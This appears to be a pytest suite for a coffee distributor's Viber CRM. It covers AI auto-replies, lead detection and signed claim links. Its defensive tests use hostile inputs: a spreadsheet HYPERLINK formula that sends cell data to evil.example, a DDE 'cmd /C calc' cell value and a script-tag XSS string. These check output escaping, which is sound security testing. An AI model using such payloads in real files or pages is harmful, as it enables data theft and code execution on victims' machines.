"""The AI lane (issue 6) and intent -> lead -> agent claim (issue 7), end to
end: 8x8 posts inbound messages to the webhook, the worker asks the OpenAI
stand-in and sends replies and pings through the 8x8 stand-in."""

import concurrent.futures
import csv as csv_module
import io
import hashlib
import hmac
import os
import re
import signal
import time

import pytest

from conftest import inbound_event, stays, wait_until

AI_DIRECTIVES = ("Blu8x8OpenAIKey sk-test-openai\n"
                 "Blu8x8AIQuietWindow 0.3\n"
                 "Blu8x8OpenAITimeout 2\n"
                 "Blu8x8PublicURL https://blu.example.ph\n")

INTENT_Q = ("Is this message showing interest in our coffee products and services? "
            "Answer Yes or No.")


def inbound(text, phone="+639170000001", name="Ana", umid=None, kind="Text"):
    return inbound_event(phone, text, umid=umid, name=name, kind=kind)


def post_event(h, event):
    r = h.client.as_user(None).post("/viber/status", json=event)
    assert r.status == 200, r
    return r


def inbound_rows(h, phone):
    return h.client.get(f"/blu8x8/api/inbound?phone={phone}").json["items"]


def chat_calls(openai):
    return [r for r in openai.requests if r.json and r.json["messages"][0]["content"] != INTENT_Q]


def intent_calls(openai):
    return [r for r in openai.requests if r.json and r.json["messages"][0]["content"] == INTENT_Q]


def viber_sends(eightx8, phone=None):
    out = []
    for r in eightx8.requests:
        if r.json and "user" in r.json and (phone is None or r.json["user"]["msisdn"] == phone):
            out.append(r)
    return out


@pytest.fixture
def ai_server(make_server):
    h = make_server(AI_DIRECTIVES)
    r = h.client.patch("/blu8x8/api/settings", json={"ai_respond": True})
    assert r.status == 200
    return h


def clear_faqs(c):
    for f in c.get("/blu8x8/api/faqs").json["items"]:
        c.delete(f"/blu8x8/api/faqs/{f['id']}")


# ------------------------------------------------------------------ AI reply

def test_reply_uses_faq_prompt_and_is_sent_and_recorded(ai_server, openai, eightx8):
    h = ai_server
    c = h.client
    openai.reply = "Yes! We deliver to Cebu in 2-3 days."
    # 0 FAQ pairs: persona only.
    post_event(h, inbound("Do you deliver to Cebu?"))
    assert wait_until(lambda: len(chat_calls(openai)) == 1)
    req = chat_calls(openai)[0]
    assert req.headers["authorization"] == "Bearer sk-test-openai"
    assert req.json["model"] == "gpt-4o" and req.json["max_completion_tokens"] == 200
    assert req.json["messages"] == [
        {"role": "system", "content": "You are a coffee expert at Blu Coffee Distributors."},
        {"role": "user", "content": "Do you deliver to Cebu?"}]
    assert wait_until(lambda: viber_sends(eightx8, "+639170000001"))
    send = viber_sends(eightx8, "+639170000001")[0].json
    assert send["type"] == "text" and send["content"]["text"] == "Yes! We deliver to Cebu in 2-3 days."
    rows = wait_until(lambda: [i for i in inbound_rows(h, "09170000001") if i["ai_state"] == "answered"])
    assert rows and rows[0]["reply_id"]

    # 1 and then 3 FAQ pairs, a new persona, model and token cap changed through the page.
    clear_faqs(c)
    c.post("/blu8x8/api/faqs", json={"prompt": "Do you deliver?", "completion": "Yes, Metro Manila next day."})
    r = c.post_form("/blu8x8/settings", {"openai_model": "gpt-4o-mini", "openai_max_tokens": "120",
                                         "ai_persona": "You are Blu, a friendly barista."})
    assert r.posted.status == 303
    openai.clear()
    post_event(h, inbound("And to Davao?", phone="+639170000002"))
    assert wait_until(lambda: len(chat_calls(openai)) == 1)
    req = chat_calls(openai)[0].json
    assert req["model"] == "gpt-4o-mini" and req["max_completion_tokens"] == 120
    assert req["messages"][0]["content"] == (
        "You are Blu, a friendly barista.\n"
        "For frequently asked questions, use these responses:\n"
        "'Do you deliver?' - 'Yes, Metro Manila next day.'")
    c.post("/blu8x8/api/faqs", json={"prompt": "Hours?", "completion": "8am-6pm"})
    c.post("/blu8x8/api/faqs", json={"prompt": "Beans?", "completion": "Barako, Arabica"})
    openai.clear()
    post_event(h, inbound("What beans do you have?", phone="+639170000003"))
    assert wait_until(lambda: len(chat_calls(openai)) == 1)
    lines = chat_calls(openai)[0].json["messages"][0]["content"].split("\n")
    assert lines[1:] == ["For frequently asked questions, use these responses:",
                         "'Do you deliver?' - 'Yes, Metro Manila next day.'",
                         "'Hours?' - '8am-6pm'", "'Beans?' - 'Barako, Arabica'"]


def test_history_is_sent_oldest_first(ai_server, openai):
    h = ai_server
    phone = "+639170000011"
    answers = iter(["Hi Ana!", "We have Barako.", "P450 per kilo."])
    openai.reply_fn = lambda req: next(answers)
    for text in ("Hello", "What beans?", "How much?"):
        before = len(chat_calls(openai))
        post_event(h, inbound(text, phone=phone))
        assert wait_until(lambda: len(chat_calls(openai)) == before + 1)
        assert wait_until(lambda: all(i["ai_state"] == "answered" for i in inbound_rows(h, phone)))
    msgs = chat_calls(openai)[-1].json["messages"]
    assert [(m["role"], m["content"]) for m in msgs[1:]] == [
        ("user", "Hello"), ("assistant", "Hi Ana!"), ("user", "What beans?"),
        ("assistant", "We have Barako."), ("user", "How much?")]


def test_same_inbound_four_times_gives_one_call_and_one_reply(ai_server, openai, eightx8):
    h = ai_server
    event = inbound("Do you sell espresso machines?", phone="+639170000021")
    for _ in range(4):
        post_event(h, event)
    assert wait_until(lambda: viber_sends(eightx8, "+639170000021"))
    assert stays(lambda: len(chat_calls(openai)), h.client) == 1
    assert len(viber_sends(eightx8, "+639170000021")) == 1
    assert len(inbound_rows(h, "+639170000021")) == 1


def test_texts_within_the_quiet_window_are_answered_together(ai_server, openai, eightx8):
    h = ai_server
    phone = "+639170000031"
    post_event(h, inbound("Hi, question:", phone=phone))
    post_event(h, inbound("do you deliver to Cebu?", phone=phone))
    assert wait_until(lambda: viber_sends(eightx8, phone))
    assert stays(lambda: len(chat_calls(openai)), h.client) == 1
    assert chat_calls(openai)[0].json["messages"][-1]["content"] == \
        "Hi, question:\ndo you deliver to Cebu?"
    rows = inbound_rows(h, phone)
    assert len(rows) == 2 and {r["ai_state"] for r in rows} == {"answered"}
    assert rows[0]["reply_id"] == rows[1]["reply_id"]
    assert len(viber_sends(eightx8, phone)) == 1


def test_openai_500_then_200_gives_one_reply(ai_server, openai, eightx8):
    h = ai_server
    openai.fail(500, times=1)
    post_event(h, inbound("Is the cafe open today?", phone="+639170000041"))
    assert wait_until(lambda: viber_sends(eightx8, "+639170000041"), timeout=20)
    assert len(chat_calls(openai)) == 2
    assert len(viber_sends(eightx8, "+639170000041")) == 1


def test_hanging_openai_never_slows_the_webhook_and_is_retried(ai_server, openai, eightx8):
    h = ai_server
    openai.script(200, delay=30, times=1)     # the first call hangs past the 2 s timeout
    started = time.monotonic()
    post_event(h, inbound("Hello?", phone="+639170000051"))
    assert time.monotonic() - started < 0.5
    assert wait_until(lambda: len(chat_calls(openai)) >= 1)
    # While the lane waits on OpenAI, webhooks are still answered at once.
    for _ in range(5):
        t0 = time.monotonic()
        post_event(h, inbound("ping", phone="+639170009999"))
        assert time.monotonic() - t0 < 0.1
    assert wait_until(lambda: viber_sends(eightx8, "+639170000051"), timeout=25)
    rows = inbound_rows(h, "+639170000051")
    assert rows[0]["ai_state"] == "answered"


def test_bad_openai_key_fails_with_a_clear_reason(ai_server, openai, eightx8):
    h = ai_server
    openai.fail(401, times=1)
    post_event(h, inbound("Hi", phone="+639170000061"))
    row = wait_until(lambda: [i for i in inbound_rows(h, "+639170000061") if i["ai_state"] == "failed"])
    assert row and "invalid OpenAI key" in row[0]["ai_error"]
    assert viber_sends(eightx8, "+639170000061") == []
    conv = h.client.get("/blu8x8/api/conversations?q=639170000061").json["items"][0]
    page = h.client.get(f"/blu8x8/conversations/{conv['id']}").text
    assert "invalid OpenAI key" in page


def test_switch_off_means_no_call(make_server, openai):
    h = make_server(AI_DIRECTIVES)
    post_event(h, inbound("Anyone there?", phone="+639170000071"))
    assert stays(lambda: len(openai.requests), h.client) == 0
    assert inbound_rows(h, "+639170000071")[0]["ai_state"] == "not_answered"
    # Turning it on later does not answer the old message by surprise.
    h.client.patch("/blu8x8/api/settings", json={"ai_respond": True})
    assert stays(lambda: len(openai.requests), h.client) == 0


def test_worker_killed_while_waiting_on_openai_answers_once(ai_server, openai, eightx8):
    h = ai_server
    openai.script(200, delay=30, times=1)
    post_event(h, inbound("Kill me softly", phone="+639170000081"))
    assert wait_until(lambda: len(chat_calls(openai)) == 1)
    pid = h.wait_worker()
    os.kill(pid, signal.SIGKILL)
    h.wait_worker(not_pid=pid)
    assert wait_until(lambda: viber_sends(eightx8, "+639170000081"), timeout=30)
    assert stays(lambda: eightx8.sends_by_msisdn["+639170000081"], h.client) == 1
    assert inbound_rows(h, "+639170000081")[0]["ai_state"] == "answered"


# ------------------------------------------------------- intent, leads, claims

def intent_reply(answer):
    def reply(req):
        if req["messages"][0]["content"] == INTENT_Q:
            return answer
        return "Thanks! An agent will contact you."
    return reply


@pytest.fixture
def davinci(ai_server):
    h = ai_server
    c = h.client
    assert c.patch("/blu8x8/api/settings", json={"da_vinci": True}).status == 200
    agents = {}
    for login, phone in (("alice", "09171110001"), ("bob", "09171110002"),
                         ("carol", "09171110003")):
        r = c.post("/blu8x8/api/users", json={"login": login, "name": login.title(),
                                               "phone": phone, "roles": ["sales_agent"]})
        assert r.status == 201
        agents[login] = r.json
    # A sales agent without a phone is not pinged.
    c.post("/blu8x8/api/users", json={"login": "dave", "roles": ["sales_agent"]})
    h.agents = agents
    return h


def pings(eightx8):
    return [r.json for r in viber_sends(eightx8) if r.json["type"] == "buttons"]


def leads(h, **params):
    q = "&".join(f"{k}={v}" for k, v in params.items())
    return h.client.get(f"/blu8x8/api/leads?{q}").json["items"]


def test_yes_makes_one_lead_and_pings_each_agent(davinci, openai, eightx8):
    h = davinci
    c = h.client
    c.post("/blu8x8/api/contacts", json={"name": "Ana Reyes", "phone": "09175550001"})
    openai.reply_fn = intent_reply("Yes")
    post_event(h, inbound("I'd like 5 kilos of Barako", phone="+63 917 555 0001"))
    assert wait_until(lambda: len(pings(eightx8)) == 3)
    lead = leads(h)[0]
    assert lead["name"] == "I'd like 5 kilos of Barako" and lead["phone"] == "+639175550001"
    assert lead["contact_id"] and lead["claimed_by"] is None
    assert sorted(lead["pinged"]) == ["alice", "bob", "carol"]
    ping = [p for p in pings(eightx8) if p["user"]["msisdn"] == "+639171110001"][0]
    assert ping["content"]["button"]["caption"] == "Yes, let me handle it."
    assert "Ana Reyes" in ping["content"]["text"] and "5 kilos of Barako" in ping["content"]["text"]
    action = ping["content"]["button"]["action"]
    m = re.fullmatch(r"https://blu\.example\.ph/crm/(\d+)/(\d+)\?sig=([0-9a-f]{64})", action)
    assert m and int(m.group(1)) == lead["id"] and int(m.group(2)) == h.agents["alice"]["id"]
    # The customer still gets the AI reply.
    assert wait_until(lambda: viber_sends(eightx8, "+639175550001"))


@pytest.mark.parametrize("answer, makes_lead", [("No", False), ("no.", False),
                                                ("YES!", True), ("Yes, definitely", True)])
def test_yes_rule(davinci, openai, eightx8, answer, makes_lead):
    h = davinci
    openai.reply_fn = intent_reply(answer)
    post_event(h, inbound("Hello there", phone="+639175550002"))
    assert wait_until(lambda: viber_sends(eightx8, "+639175550002"))
    assert (len(leads(h)) == 1) is makes_lead


def test_same_inbound_four_times_makes_one_lead(davinci, openai, eightx8):
    h = davinci
    openai.reply_fn = intent_reply("Yes")
    event = inbound("Price list for wholesale please", phone="+639175550003")
    for _ in range(4):
        post_event(h, event)
    assert wait_until(lambda: len(pings(eightx8)) == 3)
    assert stays(lambda: (len(leads(h)), len(pings(eightx8))), h.client) == (1, 3)
    assert len(intent_calls(openai)) == 1


def claim_links(eightx8):
    links = {}
    for p in pings(eightx8):
        m = re.search(r"/crm/(\d+)/(\d+)\?sig=([0-9a-f]+)", p["content"]["button"]["action"])
        links[p["user"]["msisdn"]] = m.group(0)
    return links


def test_claim_first_tap_wins_and_pages_escape(davinci, openai, eightx8):
    h = davinci
    openai.reply_fn = intent_reply("Yes")
    post_event(h, inbound("<script>alert(1)</script> want beans", phone="+639175550004"))
    assert wait_until(lambda: len(pings(eightx8)) == 3)
    links = claim_links(eightx8)
    anon = h.client.as_user(None)
    alice, bob = links["+639171110001"], links["+639171110002"]
    assert anon.request("HEAD", alice).status == 200
    assert leads(h)[0]["claimed_by"] is None, "HEAD must not claim"
    r = anon.get(alice)
    assert r.status == 200 and "It&#39;s yours" in r.text or "It's yours" in r.text
    assert "<script>alert(1)</script>" not in r.text and "&lt;script&gt;" in r.text
    assert r.header("cache-control") == "no-store"
    r = anon.get(bob)
    assert r.status == 409 and "This lead is being handled by Alice" in r.text
    assert anon.get(alice).status == 200          # the winner again
    lead = leads(h)[0]
    assert lead["claimed_by"] == "alice" and lead["claimed_at"]
    assert leads(h, claimed="false") == [] and len(leads(h, claimed="true")) == 1
    page = h.client.get("/blu8x8/leads").text
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)" in page
    csv = h.client.get("/blu8x8/leads.csv")
    assert csv.csv_text.splitlines()[0] == "id,created_at,name,phone,contact,claimed_by,claimed_at"
    assert ",alice," in csv.csv_text


def test_claim_link_checks(davinci, openai, eightx8):
    h = davinci
    openai.reply_fn = intent_reply("Yes")
    post_event(h, inbound("Can I order?", phone="+639175550005"))
    assert wait_until(lambda: len(pings(eightx8)) == 3)
    link = claim_links(eightx8)["+639171110001"]
    lead_id, user_id, sig = re.search(r"/crm/(\d+)/(\d+)\?sig=(\w+)", link).groups()
    anon = h.client.as_user(None)
    assert anon.get(f"/crm/{lead_id}/{user_id}").status == 403
    assert anon.get(f"/crm/{lead_id}/{user_id}?sig={'0' * 64}").status == 403
    bob_id = h.agents["bob"]["id"]
    assert anon.get(f"/crm/{lead_id}/{bob_id}?sig={sig}").status == 403   # swapped user
    assert anon.get(f"/crm/999/{user_id}?sig={sig}").status == 403
    assert anon.post(link, body="").status == 405
    assert leads(h)[0]["claimed_by"] is None
    # A valid signature for an unknown lead, or for a user who is no sales agent: 404.
    erin = h.client.post("/blu8x8/api/users", json={"login": "erin", "phone": "09171110009"}).json
    secret = h.sql("SELECT value FROM runtime WHERE key = 'server_secret'")[0][0]

    def signed(lead, user):
        mac = hmac.new(secret.encode(), f"claim:{lead}:{user}".encode(), hashlib.sha256)
        return f"/crm/{lead}/{user}?sig={mac.hexdigest()}"
    assert anon.get(signed(lead_id, user_id)).status == 200     # the rule the module uses
    assert anon.get(signed(999999, user_id)).status == 404
    assert anon.get(signed(lead_id, erin["id"])).status == 404
    assert anon.get(signed(lead_id, 999999)).status == 404


def test_twenty_concurrent_claims_by_five_agents_one_winner(davinci, openai, eightx8):
    h = davinci
    c = h.client
    for login, phone in (("frank", "09171110004"), ("gina", "09171110005")):
        c.post("/blu8x8/api/users", json={"login": login, "name": login.title(), "phone": phone,
                                          "roles": ["sales_agent"]})
    openai.reply_fn = intent_reply("Yes")
    post_event(h, inbound("Bulk order for my cafe", phone="+639175550006"))
    assert wait_until(lambda: len(pings(eightx8)) == 5)
    links = list(claim_links(eightx8).values())
    anon = h.client.as_user(None)
    with concurrent.futures.ThreadPoolExecutor(max_workers=20) as pool:
        results = list(pool.map(lambda i: anon.get(links[i % 5]), range(20)))
    winner = leads(h)[0]["claimed_by"]
    assert winner is not None
    wins = [r for r in results if r.status == 200]
    losses = [r for r in results if r.status == 409]
    assert len(wins) + len(losses) == 20 and wins, [(r.status, r.text[:200]) for r in results
                                                    if r.status not in (200, 409)]
    assert all(f"handled by {winner.title()}" in r.text for r in losses)
    assert len({r.text for r in wins}) >= 1


def test_lead_without_agents_says_nobody_was_pinged(ai_server, openai, eightx8):
    h = ai_server
    assert h.client.patch("/blu8x8/api/settings", json={"da_vinci": True}).status == 200
    openai.reply_fn = intent_reply("Yes")
    post_event(h, inbound("Do you supply cafes?", phone="+639175550009"))
    assert wait_until(lambda: leads(h))
    lead = leads(h)[0]
    assert lead["pinged"] == [] and lead["claimed_by"] is None
    assert wait_until(lambda: viber_sends(eightx8, "+639175550009"))    # the customer's reply still goes
    assert pings(eightx8) == []
    assert "nobody was pinged" in h.client.get("/blu8x8/leads").text


# ------------------------------------------------------ CSV formula injection

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def test_leads_csv_guards_formulas_from_the_customer(davinci, openai, eightx8):
    """A customer's Viber text and display name are theirs to choose: in
    leads.csv they must not reach a spreadsheet as formulas."""
    h = davinci
    name = "@SUM(1+1)*cmd|' /C calc'!A0"
    # The contact (the lead's "contact" column) as the customer's Viber name made it.
    assert h.client.post("/blu8x8/api/contacts",
                         json={"name": name, "phone": "09175550077"}).status == 201
    openai.reply_fn = intent_reply("Yes")
    post_event(h, inbound(HOSTILE, phone="+639175550077", name=name))
    assert wait_until(lambda: len(leads(h)) == 1)
    r = h.client.get("/blu8x8/leads.csv")
    rows = list(csv_module.reader(io.StringIO(r.csv_text)))
    assert rows[0] == ["id", "created_at", "name", "phone", "contact", "claimed_by", "claimed_at"]
    row = rows[1]
    assert row[2] == "'" + HOSTILE                         # the lead's text, guarded
    assert row[3] == "+639175550077"                       # a phone stays a number
    assert row[4] == "'" + name
    for cell in row:
        assert not cell or cell[0] not in "=+-@\t\r" or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
    # The API still gives the text as it was.
    assert leads(h)[0]["name"] == HOSTILE
